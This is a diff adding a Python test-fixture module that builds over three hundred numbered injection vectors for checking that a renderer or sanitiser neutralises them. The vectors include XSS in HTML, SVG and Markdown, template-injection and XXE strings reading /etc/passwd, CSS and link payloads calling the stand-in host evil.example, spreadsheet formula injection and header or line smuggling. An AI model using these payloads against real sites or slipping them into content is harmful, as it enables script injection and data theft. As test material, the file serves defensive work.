@@ -1,0 +1,322 @@
+"""Texts that try to become something else wherever they land: markup, a script, a link, a field, a formula.
+
+Each tries to call ``pwn`` with its own number, to open a dialog, or to ask ``evil.example`` for something, so what got
+through says which one it was. They are grouped by technique; ``blocks`` need several lines, so they fit Markdown alone.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+NUMBER = "§"  # stands for the vector's number
+STRANGER = "evil.example"
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Vector:
+    number: int
+    technique: str
+    text: str
+
+    @property
+    def is_one_line(self) -> bool:
+        return "\n" not in self.text
+
+
+_LINES: dict[str, tuple[str, ...]] = {
+    "elements": (
+        "<script>pwn(§)</script>",
+        "<ScRiPt>pwn(§)</sCrIpT>",
+        "<script/x>pwn(§)</script >",
+        "<script src=//evil.example/§></script>",
+        "<script src=https://evil.example/§.js async>",
+        "<script type=module>import('//evil.example/§')</script>",
+        "<<script>pwn(§);//<</script>",
+        "<script>pwn(§)//",
+        "<scr<script>ipt>pwn(§)</scr</script>ipt>",
+        "<img src=x onerror=pwn(§)>",
+        "<img/src=x/onerror=pwn(§)>",
+        "<img src=//evil.example/§.png>",
+        "<img srcset='//evil.example/§ 1x'>",
+        "<IMG SRC=x ONERROR=pwn`§`>",
+        "<img src=x onerror\n=pwn(§)>".replace("\n", "\t"),
+        "<image src=x onerror=pwn(§)>",
+        "<svg onload=pwn(§)>",
+        "<svg/onload=alert(§)>",
+        "<body onload=pwn(§)>",
+        "<input autofocus onfocus=pwn(§)>",
+        "<select autofocus onfocus=pwn(§)><option>",
+        "<textarea autofocus onfocus=pwn(§)>",
+        "<details open ontoggle=pwn(§)>",
+        "<video src=x onerror=pwn(§)></video>",
+        "<video><source onerror=pwn(§)></video>",
+        "<audio src=//evil.example/§ autoplay onloadstart=pwn(§)>",
+        "<iframe src=javascript:parent.pwn(§)></iframe>",
+        "<iframe srcdoc='<script>parent.pwn(§)</script>'></iframe>",
+        "<object data=//evil.example/§></object>",
+        "<embed src=//evil.example/§>",
+        "<base href=//evil.example/§/>",
+        "<meta http-equiv=refresh content='0;url=//evil.example/§'>",
+        "<link rel=stylesheet href=//evil.example/§.css>",
+        "<link rel=prefetch href=//evil.example/§>",
+        "<form action=//evil.example/§><button>OK</button></form>",
+        "<button formaction=javascript:pwn(§)>OK</button>",
+        "<marquee onstart=pwn(§)>x</marquee>",
+        "<dialog open onfocusin=pwn(§) autofocus>",
+        "<x onanimationstart=pwn(§) style=animation:x>",
+        "<a href=x onmouseover=pwn(§)>go</a>",
+        "<p popover id=p onbeforetoggle=pwn(§)>x<button popovertarget=p>",
+        "<b contenteditable autofocus tabindex=0 onfocus=pwn(§)>x",
+        "<portal src=//evil.example/§>",
+        "<custom-element is=script onpointerenter=pwn(§)>x",
+        "<template shadowrootmode=open><img src=x onerror=pwn(§)></template>",
+    ),
+    "breaking out of an attribute or an element": (
+        '" onmouseover=pwn(§) x="',
+        "' onmouseover=pwn(§) x='",
+        '" autofocus onfocus=pwn(§) tabindex=1 x="',
+        '"><script>pwn(§)</script>',
+        "'><script>pwn(§)</script>",
+        '"><img src=x onerror=pwn(§)>',
+        "--><script>pwn(§)</script>",
+        "--!><img src=x onerror=pwn(§)>",
+        "<!--><img src=x onerror=pwn(§)>-->",
+        "<!-- --!><script>pwn(§)</script>",
+        "<![CDATA[><script>pwn(§)</script>]]>",
+        "]]><script>pwn(§)</script>",
+        "]]>]]&gt;<entry><title>§</title></entry>",
+        "</title><script>pwn(§)</script>",
+        "</textarea><script>pwn(§)</script>",
+        "</script><script>pwn(§)</script>",
+        "</style><script>pwn(§)</script>",
+        "</noscript><img src=x onerror=pwn(§)>",
+        "</bdi></h1></main><script>pwn(§)</script>",
+        "</template><svg onload=pwn(§)>",
+        "<!--<script>pwn(§)",
+        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;§",
+        "<?xml-stylesheet href='//evil.example/§'?>",
+        "<?php pwn(§) ?>",
+        "%22%3E%3Cscript%3Epwn(§)%3C/script%3E",
+        '\\"><svg onload=pwn(§)>',
+        "`><img src=x onerror=pwn(§)>",
+        '" style="background:url(//evil.example/§)',
+    ),
+    "entities and letters": (
+        "&lt;script&gt;pwn(§)&lt;/script&gt;",
+        "&#60;script&#62;pwn(§)&#60;/script&#62;",
+        "&#x3c;img src=x onerror=pwn(§)&#x3e;",
+        "&amp;lt;svg onload=pwn(§)&amp;gt;",
+        "&quot; onclick=pwn(§) x=&quot;",
+        "&lt<script>pwn(§)</script>",
+        "&NewLine;<svg&Tab;onload=pwn(§)>",
+        "<scr\x00ipt>pwn(§)</scr\x00ipt>",
+        "<img src=x on\x00error=pwn(§)>",
+        "<\x0bscript>pwn(§)</script>",
+        "<img\x0csrc=x\x0conerror=pwn(§)>",
+        "\x1b]8;;https://evil.example/§\x07click\x1b]8;;\x07",
+        "\x1b[2J\x1b[31m§ all is well\x1b[0m",
+        "\x9b31m§ csi",
+        "\u202e>)§(nwp=rorreno x=crs gmi<",
+        "\u2066<b>§</b>\u2069",
+        "\uff1cscript\uff1epwn(§)\uff1c/script\uff1e",
+        "\u2028<script>pwn(§)</script>\u2029",
+        "<ſcript>pwn(§)</ſcript>",
+        "<İmg src=x onerror=pwn(§)>",
+        "+ADw-script+AD4-pwn(§)+ADw-/script+AD4-",
+        "\ufeff<script>pwn(§)</script>",
+        "\u00ad<script>pwn(§)</script>",
+    ),
+    "links of Markdown": (
+        "[a](javascript:pwn(§))",
+        "[a](JaVaScRiPt:pwn(§))",
+        "[a](java&#10;script:pwn(§))",
+        "[a](&#106;&#97;vascript:pwn(§))",
+        "[a](&#x6A;avascript&colon;pwn(§))",
+        "[a](javascript&Tab;:pwn(§))",
+        "[a](java\tscript:pwn(§))",
+        "[a](<java\tscript:pwn(§)>)",
+        "[a](\x01javascript:pwn(§))",
+        "[a]( \u00a0javascript:pwn(§))",
+        "[a](javascript://acme.example/%0apwn(§))",
+        "[a](vbscript:MsgBox(§))",
+        "[a](data:text/html,<script>pwn(§)</script>)",
+        "[a](data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=§)",
+        "[a](data:image/svg+xml,<svg onload=pwn(§)>)",
+        "[a](file:///etc/passwd?§)",
+        "[a](view-source:javascript:pwn(§))",
+        "[a](feed:javascript:pwn(§))",
+        "[a](blob:https://evil.example/§)",
+        "[a](x-javascript:pwn(§))",
+        '[a](https://acme.example/ "§\\" onmouseover=pwn(§) x=\\"")',
+        '[a](https://acme.example/"onmouseover="pwn(§))',
+        "[a](https://acme.example/'onmouseover='pwn(§))",
+        "[a](https://acme.example/ '\"><svg onload=pwn(§)>')",
+        '[a](https://acme.example/ "<table><img src=x onerror=pwn(§)>")',
+        "[a](<https://acme.example/><script>pwn(§)</script>>)",
+        "[<img src=x onerror=pwn(§)>](https://acme.example/)",
+        '[a](#" onmouseover="pwn(§))',
+        "[a](?q=§&lt;script&gt;)",
+        "<javascript:pwn(§)>",
+        "<JAVASCRIPT:alert(§)>",
+        '<https://acme.example/"onmouseover="pwn(§)>',
+        '<mailto:a@acme.example?body="><svg onload=pwn(§)>>',
+        '<a@acme.example"onclick="pwn(§)>',
+        "![a](javascript:pwn(§))",
+        "![a](//evil.example/§.png)",
+        "![a](https://evil.example/§.png)",
+        "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+§)",
+        '![a](https://site.invalid/"onerror="pwn(§))',
+        '!["onerror="pwn(§)](graph.png)',
+        '![a](graph.png "x\\" onload=pwn(§) y=\\"")',
+        "![a][§]<img src=x onerror=pwn(§)>",
+        '[a](https://site.invalid/"><script>pwn(§)</script>)',
+        "[a](../../../../etc/passwd?§)",
+    ),
+    "marks of Markdown": (
+        "# § {onclick=pwn(§)}",
+        "**§**{: onclick=pwn(§) }",
+        "{: #main .operational style=position:fixed onclick=pwn(§) }",
+        "`<script>pwn(§)</script>`",
+        "``` <img src=x onerror=pwn(§)> ```",
+        '`"><svg onload=pwn(§)>`',
+        "~~<svg onload=pwn(§)>~~",
+        "> <svg onload=pwn(§)>",
+        "- <svg onload=pwn(§)>",
+        "1. <svg onload=pwn(§)>",
+        "| <svg onload=pwn(§)> |",
+        "    <svg onload=pwn(§)>",
+        "\\<svg onload=pwn(§)\\>",
+        "<div markdown=1 onclick=pwn(§)>x</div>",
+        "\x02klzzwxh:0000\x03 <svg onload=pwn(§)>",
+        "\x02amp\x03lt;script>pwn(§)",
+        "wzxhzdk:0 §<svg onload=pwn(§)>",
+    ),
+    "markup that changes when it is parsed again": (
+        "<svg><style><img src=x onerror=pwn(§)></style></svg>",
+        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=pwn(§)>'>",
+        "<noscript><p title='</noscript><img src=x onerror=pwn(§)>'>",
+        "<svg></p><style><a id='</style><img src=x onerror=pwn(§)>'>",
+        "<svg><foreignObject><body onload=pwn(§)></foreignObject></svg>",
+        "<svg><script>pwn(§)</script></svg>",
+        "<svg><script href=//evil.example/§ /></svg>",
+        "<svg><a xlink:href=javascript:pwn(§)><text y=20>x</text></a></svg>",
+        "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn(§)>#x'/></svg>",
+        "<svg><animate onbegin=pwn(§) attributeName=x dur=1s>",
+        "<svg><set attributeName=href to=javascript:pwn(§)>",
+        "<svg><image href=//evil.example/§ /></svg>",
+        "<math href=javascript:pwn(§)>x</math>",
+        "<math><annotation-xml encoding=text/html><img src=x onerror=pwn(§)>",
+        "<template><script>pwn(§)</script></template>",
+        "<xmp><p title='</xmp><svg onload=pwn(§)>'>",
+        "<plaintext><img src=x onerror=pwn(§)>",
+        "<table><td><svg onload=pwn(§)>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn(§)>",
+        "<a id=main><a id=theme name=cookie href=//evil.example/§>",
+    ),
+    "templates": (
+        "{{ 6*7 }}{{ pwn(§) }}",
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}§",
+        "{% for x in ().__class__.__base__.__subclasses__() %}§{% endfor %}",
+        "{{ site|safe }}{{ '<script>pwn(§)</script>'|safe }}",
+        "{# § #}<script>pwn(§)</script>",
+        "{% include '/etc/passwd' %}§",
+        "#{pwn(§)}<%= pwn(§) %>",
+        "[[${pwn(§)}]]",
+        "%(site)s %(nothing)s %s §",
+        "{time}{count}{age}{zone} $& $` §<svg onload=pwn(§)>",
+        "{0.__class__}{§}",
+        "${pwn(§)}",
+    ),
+    "styles": (
+        "<style>*{background:url(//evil.example/§)}</style>",
+        "<style>@import '//evil.example/§';</style>",
+        "<div style='background:url(//evil.example/§)'>",
+        "<div style='width:expression(pwn(§))'>",
+        "<div style='-moz-binding:url(//evil.example/§)'>",
+        "</style><style>@import url(//evil.example/§)",
+        "red;}body{background:url(//evil.example/§)}",
+    ),
+    "lines of other formats": (
+        "§\r\nATTENDEE:mailto:x@evil.example",
+        "§\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:pwn",
+        "§\\nATTACH:https://evil.example/§",
+        "§;X-ALT-DESC;FMTTYPE=text/html:<script>pwn(§)</script>",
+        "§\u0085URL:https://evil.example/§",
+        "§\x1cBEGIN:VALARM\x1cACTION:DISPLAY",
+        "§\r\nSet-Cookie: a=b\r\n\r\n<script>pwn(§)</script>",
+        "§%0d%0aLocation: https://evil.example/§",
+        '=HYPERLINK("https://evil.example/§")',
+        "+cmd|' /C calc'!A§",
+        "-2+3+cmd|' /C calc'!A§",
+        "@SUM(1+§)*cmd|' /C calc'!A0",
+        "\t=1+§",
+        '"=1+§',
+        '","=§","',
+        '{"@context":"https://evil.example/§"}',
+        "\\u003cscript\\u003epwn(§)\\u003c/script\\u003e",
+        '","slug":"//evil.example/§","x":"',
+        "§\n# HELP x\nstatusgen_up 1",
+        '"} 1\nstatusgen_pwned{x="§"} 1',
+        "§\nContact: https://evil.example/§",
+        "§\n  Content-Security-Policy: script-src *",
+        "tag:evil.example,2026:§</id><id>",
+        "§\n> quoted\n### Resolved · 2026-11-20 11:15 UTC",
+    ),
+}
+
+_BLOCKS = (
+    "[a][r]\n\n[r]: javascript:pwn(§)",
+    "[a][r]\n\n[r]: <javascript:pwn(§)>",
+    '[a][r]\n\n[r]: https://acme.example/ "\\"><script>pwn(§)</script>"',
+    "![a][r]\n\n[r]: https://evil.example/§.png",
+    "![a][r]\n\n[r]: data:text/html,<script>pwn(§)</script>",
+    'Note[^"onclick=pwn(§)x="].\n\n[^"onclick=pwn(§)x="]: x',
+    "Note[^1].\n\n[^1]: <script>pwn(§)</script> [b](javascript:pwn(§))",
+    "Note[^<svg onload=pwn(§)>].\n\n[^<svg onload=pwn(§)>]: x",
+    '```"><script>pwn(§)</script>\ncode\n```',
+    "``` {.python onclick=pwn(§)}\ncode\n```",
+    "```js onmouseover=pwn(§)\n</code></pre><script>pwn(§)</script>\n```",
+    "~~~<img src=x onerror=pwn(§)>\ncode\n~~~",
+    "| a | b |\n|---|---|\n| <svg onload=pwn(§)> | [x](javascript:pwn(§)) |",
+    '| a |\n|:-:"onclick=pwn(§)|\n| b |',
+    "<div>\n<script>pwn(§)</script>\n</div>",
+    "<script>\npwn(§)\n</script>",
+    "<!--\n--><img src=x onerror=pwn(§)>\n-->",
+    "<![CDATA[\n<script>pwn(§)</script>\n]]>",
+    "<?\n<script>pwn(§)</script>\n?>",
+    "- a\n\n    <svg onload=pwn(§)>\n\n    [x](javascript:pwn(§))",
+    "> [x](javascript:pwn(§))\n> <img src=x onerror=pwn(§)>",
+    "Title\n=====\n{: onclick=pwn(§) }",
+    "Word {: onclick=pwn(§) }\n{: #main .operational style=position:fixed }",
+    "*[HTML]: <script>pwn(§)</script>\nHTML",
+    "Term\n:   <svg onload=pwn(§)>",
+    '<https://acme.example/\n"onmouseover=pwn(§)>',
+    '[a](https://acme.example/\n"x" onmouseover=pwn(§))',
+    "[a\n<svg onload=pwn(§)>](https://acme.example/)",
+    "    </code></pre><script>pwn(§)</script>",
+    '<a href="&#10;javascript:pwn(§)">x</a>\n\n<a href=java&#x09;script:pwn(§)>y</a>',
+)
+
+
+def _all() -> Iterator[tuple[str, str]]:
+    for technique, texts in _LINES.items():
+        yield from ((technique, text) for text in texts)
+    yield from (("blocks", text) for text in _BLOCKS)
+
+
+VECTORS = tuple(
+    Vector(number=number, technique=technique, text=text.replace(NUMBER, str(number)))
+    for number, (technique, text) in enumerate(_all(), 1001)
+)
+
+
+def packed(room: int, keep: str = " ") -> list[str]:
+    """Return texts of so many letters at most that hold every vector of one line that fits, in order."""
+    texts: list[str] = []
+    for text in (vector.text for vector in VECTORS if vector.technique != "blocks" and len(vector.text) <= room):
+        if texts and len(texts[-1]) + len(keep) + len(text) <= room:
+            texts[-1] += keep + text
+        else:
+            texts.append(text)
+    return texts
